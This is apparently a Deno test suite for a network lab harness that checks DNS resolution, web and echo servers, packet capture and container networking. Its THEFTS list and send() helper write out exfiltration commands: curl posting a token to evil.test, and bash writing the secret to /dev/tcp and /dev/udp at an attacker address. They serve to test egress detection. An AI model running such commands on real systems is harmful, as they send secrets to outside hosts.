import assert from "node:assert/strict";
import { Lab, type LabCommandOptions } from "../lab/lab.ts";
import {
  ADDRESSES,
  INTERFACES,
  LARGE,
  type Side,
  SINK,
} from "../lab/topology.ts";

const SECRET = "token=6f1d0c3a";

const ANSWERS: readonly { question: string[]; answer: string }[] = [
  { question: ["allowed.test", "A"], answer: "203.0.113.10" },
  { question: ["allowed.test", "AAAA"], answer: "2001:db8:2::10" },
  { question: ["shared.test", "A"], answer: "203.0.113.10" },
  {
    question: ["chain.test", "A"],
    answer: "link.chain.test. cdn.test. 203.0.113.20",
  },
  { question: ["www.allowed.test", "A"], answer: "allowed.test. 203.0.113.10" },
  { question: ["a.deep.wild.test", "AAAA"], answer: "2001:db8:2::40" },
  { question: ["evil.test", "A"], answer: "203.0.113.66" },
  { question: ["anything.invalid", "A"], answer: "" },
  { question: ["allowed.test", "A", "+tcp"], answer: "203.0.113.10" },
];

const FETCHES: readonly { side: Side; args: string[]; line: string }[] = [
  {
    side: "run",
    args: ["-4", "https://allowed.test/"],
    line: "site allowed.test 203.0.113.10 443",
  },
  {
    side: "run",
    args: ["-6", "https://www.allowed.test:8443/"],
    line: "site www.allowed.test 2001:db8:2::10 8443",
  },
  {
    side: "run",
    args: ["-4", "http://x.deep.wild.test/"],
    line: "site x.deep.wild.test 203.0.113.40 80",
  },
  {
    side: "box",
    args: ["-4", "https://cdn.test/"],
    line: "site cdn.test 203.0.113.20 443",
  },
  {
    side: "box",
    args: ["-6", "https://shared.test/"],
    line: "site shared.test 2001:db8:2::10 443",
  },
];

const THEFTS: readonly { name: string; args: string[] }[] = [
  { name: "HTTP", args: ["curl", "-sSd", SECRET, "http://evil.test/"] },
  { name: "HTTPS", args: ["curl", "-sSd", SECRET, "https://evil.test/"] },
  { name: "TCP over IPv6", args: send("tcp", "6", "4444") },
  { name: "plain TCP on 443", args: send("tcp", "4", "443") },
  { name: "UDP", args: send("udp", "4", "4444") },
  { name: "UDP on 53 over IPv6", args: send("udp", "6", "53") },
];

const ECHOES: readonly { name: string; args: string[] }[] = [
  { name: "TCP over IPv4", args: ["nc", "-4", "-N"] },
  { name: "TCP over IPv6", args: ["nc", "-6", "-N"] },
  { name: "UDP over IPv4", args: ["nc", "-4", "-u", "-W", "1"] },
  { name: "UDP over IPv6", args: ["nc", "-6", "-u", "-W", "1"] },
];

Deno.test("Lab.up() starts a resolver that answers", async (test) => {
  await using lab = await Lab.up();
  for (const { question, answer } of ANSWERS) {
    await test.step(question.join(" "), async () => {
      const { stdout } = await lab.in("run", ["dig", "+short", ...question]);
      assert.equal(stdout.trim().replaceAll("\n", " "), answer);
    });
  }
  const queries = await lab.resolver.queries();
  assert.deepEqual(
    queries.map(({ name, type }) => [name, type]),
    ANSWERS.map(({ question }) => question.slice(0, 2)),
  );
  assert.equal(queries[0]?.client, ADDRESSES.run.ipv4);
});

Deno.test("Lab.up() starts a resolver that denies what is not there", async () => {
  await using lab = await Lab.up();
  const { stdout } = await lab.in("run", ["dig", "x.invalid", "A"]);
  assert.match(stdout, /status: NXDOMAIN/);
});

Deno.test("Lab.up() starts a resolver that moves large answers to TCP", async () => {
  await using lab = await Lab.up();
  const { stdout } = await lab.in("run", ["dig", LARGE.name, "A"]);
  assert.match(stdout, /Truncated, retrying in TCP/);
  assert.match(stdout, new RegExp(`ANSWER: ${LARGE.count},`));
});

Deno.test("Lab.up() starts web servers that clients trust", async (test) => {
  await using lab = await Lab.up({ container: true });
  for (const { side, args, line } of FETCHES) {
    await test.step(`${side}: curl ${args.join(" ")}`, async () => {
      const fetched = await lab.in(side, ["curl", "-sS", ...args]);
      assert.equal(fetched.stderr, "");
      assert.equal(fetched.stdout, `${line}\n`);
    });
  }
});

Deno.test("Lab.up() starts echo servers", async (test) => {
  await using lab = await Lab.up();
  for (const { name, args } of ECHOES) {
    await test.step(name, async () => {
      const command = [...args, "allowed.test", "7"];
      const { stdout } = await lab.in("run", command, { stdin: "hello" });
      assert.equal(stdout, "hello");
    });
  }
});

for (const { name, args } of THEFTS) {
  Deno.test(`Attacker keeps what arrives by ${name}`, async () => {
    await using lab = await Lab.up();
    assert.equal(await lab.attacker.received(), "");
    await lab.in("run", args);
    await lab.attacker.waitFor(SECRET);
  });
}

Deno.test("Attacker notes a connection that said nothing", async () => {
  await using lab = await Lab.up();
  await lab.in("run", ["nc", "-z", ADDRESSES.attacker.ipv4, "4444"]);
  const [contact, ...others] = await lab.attacker.contacts();
  assert.deepEqual(others, []);
  assert.equal(contact?.peer, ADDRESSES.run.ipv4);
  assert.equal(contact?.bytes, "");
});

Deno.test("Capture sees the packets of a connection", async () => {
  await using lab = await Lab.up();
  await using capture = await lab.capture();
  await lab.in("run", send("tcp", "6", "4444"));
  const packets = await capture.stop();

  const [first] = packets;
  assert.equal(first?.protocol, "tcp");
  assert.equal(first.flags, "SYN");
  assert.equal(first.source, ADDRESSES.run.ipv6);
  assert.equal(first.destination, ADDRESSES.attacker.ipv6);
  assert.equal(first.destinationPort, 4444);
  assert.ok(packets.some(({ text }) => text === SECRET));
});

Deno.test("Capture sees ICMP, UDP and the addresses of a container", async () => {
  await using lab = await Lab.up({ container: true });
  await using capture = await lab.capture();
  await lab.in("box", ["ping", "-c", "1", "-4", "allowed.test"]);
  const packets = await capture.stop();

  const fromBox = packets.filter(({ source }) => source === ADDRESSES.box.ipv4);
  const query = fromBox.find(({ protocol }) => protocol === "udp");
  assert.equal(query?.destination, ADDRESSES.resolver.ipv4);
  assert.equal(query.destinationPort, 53);
  const echo = fromBox.find(({ protocol }) => protocol === "icmp");
  assert.equal(echo?.destination, "203.0.113.10");
});

Deno.test("Capture is empty when nothing left", async () => {
  await using lab = await Lab.up();
  await using capture = await lab.capture();
  await lab.in("run", ["ping", "-c", "1", "127.0.0.1"]);
  assert.deepEqual(await capture.stop(), []);
});

Deno.test("Capture holds only what its filter names", async () => {
  await using lab = await Lab.up();
  await using capture = await lab.capture("tcp port 4444");
  await lab.in("run", send("udp", "4", "4444"));
  await lab.in("run", send("tcp", "4", "4444"));
  const protocols = (await capture.stop()).map(({ protocol }) => protocol);
  assert.deepEqual([...new Set(protocols)], ["tcp"]);
});

Deno.test("Capture shows a packet to the marker's address on another port", async () => {
  await using lab = await Lab.up();
  await using capture = await lab.capture();
  const target = `/dev/udp/${SINK.address}/99`;
  await lab.in("out", ["bash", "-c", `printf leak > ${target}`]);
  const packets = await capture.stop();
  assert.deepEqual(packets.map(({ text }) => text), ["leak"]);
});

Deno.test("Lab.in() runs as a user, with input and environment", async () => {
  await using lab = await Lab.up();
  const options: LabCommandOptions = {
    ...{ user: 65534, cwd: "/usr", stdin: "in", env: { COLOR: "blue" } },
  };
  const { stdout, code } = await lab.in(
    "run",
    ["sh", "-c", 'echo $(id -u) $(id -G) $(pwd) $(cat) "$COLOR"; exit 7'],
    options,
  );
  assert.equal(stdout, "65534 65534 /usr in blue\n");
  assert.equal(code, 7);
});

Deno.test("Lab.in() lets any user send ICMP echo", async () => {
  await using lab = await Lab.up();
  const ping = ["ping", "-c", "1", "-6", ADDRESSES.gateway.ipv6];
  const { code, stderr } = await lab.in("run", ping, { user: 65534 });
  assert.equal(`${code} ${stderr}`, "0 ");
});

Deno.test("Lab.in() keeps cgroup v2 in sight", async () => {
  await using lab = await Lab.up();
  const { stdout } = await lab.in("run", ["cat", "/proc/self/mountinfo"]);
  assert.match(stdout, / - cgroup2 /);
});

Deno.test("Lab.in() kills what is too slow", async () => {
  await using lab = await Lab.up();
  const startMs = performance.now();
  await assert.rejects(
    lab.in("run", ["sh", "-c", "sleep 30 & sleep 30"], { timeoutMs: 50 }),
    /still open after 50 ms/,
  );
  assert.ok(performance.now() - startMs < 5_000);
});

Deno.test("Lab.in() refuses a side that the lab has not", async () => {
  await using lab = await Lab.up();
  await assert.rejects(lab.in("box", ["true"]), TypeError);
});

Deno.test("Lab.spawn() gives a process to wait for", async () => {
  await using lab = await Lab.up();
  await using server = lab.spawn("out", ["iperf3", "-s", "-1", "--forceflush"]);
  await server.waitFor("Server listening");
  const target = ADDRESSES.gateway.ipv4;
  const client = ["iperf3", "-c", target, "-n", "1M", "-J"];
  const { stdout } = await lab.in("run", client);
  const { sum_sent: sent, sum_received: received } = JSON.parse(stdout).end;
  assert.equal(sent.bytes, 1_048_576);
  // The server stops at the client's word, and may not have read all by then.
  assert.ok(received.bytes > 0, stdout);
  assert.equal((await server.finished(5_000)).code, 0);
});

Deno.test("Lab.up() makes labs that do not see each other", async () => {
  const [one, two] = await Promise.all([Lab.up(), Lab.up()]);
  await using first = one;
  await using second = two;
  assert.notEqual(first.prefix, second.prefix);
  await first.in("run", send("tcp", "4", "4444"));
  await first.attacker.waitFor(SECRET);
  assert.equal(await second.attacker.received(), "");
});

Deno.test("Lab.up() refuses a prefix that is taken, and leaves it alone", async () => {
  await using lab = await Lab.up();
  await assert.rejects(Lab.up({ prefix: lab.prefix }), /is there/);
  const { code } = await lab.in("run", ["dig", "allowed.test"]);
  assert.equal(code, 0);
});

Deno.test("Lab.up() refuses a prefix that is no name", async () => {
  await assert.rejects(Lab.up({ prefix: "../etc" }), TypeError);
});

Deno.test("Lab.onCleanup() makes the disposal fail when a line fails", async () => {
  const lab = await Lab.up();
  await lab.onCleanup("echo no such thing >&2; false");
  await assert.rejects(lab[Symbol.asyncDispose](), /no such thing/);
  assert.equal(await exists(lab.netnsPath("run")), false);
});

Deno.test("Lab carries the first IPv6 packet of a container at once", async () => {
  await using lab = await Lab.up({ container: true });
  const ping = ["ping", "-c", "1", "-6", "2001:db8:2::20"];
  const { code, milliseconds } = await lab.in("box", ping);
  assert.equal(code, 0);
  // A neighbour that does not answer is asked again after a second.
  assert.ok(milliseconds < 900, `${milliseconds} ms`);
});

Deno.test("Lab connects the container through a bridge of its own", async () => {
  await using lab = await Lab.up({ container: true });
  const show = ["ip", "-o", "link", "show", "type", "bridge"];
  const { stdout } = await lab.in("run", show);
  assert.match(stdout, new RegExp(` ${INTERFACES.bridge}: `));
});

function send(
  protocol: "tcp" | "udp",
  family: "4" | "6",
  port: string,
): string[] {
  const address = ADDRESSES.attacker[family === "4" ? "ipv4" : "ipv6"];
  const target = `/dev/${protocol}/${address}/${port}`;
  return ["bash", "-c", `printf %s '${SECRET}' > ${target}`];
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch (error) {
    if (error instanceof Deno.errors.NotFound) return false;
    throw error;
  }
}
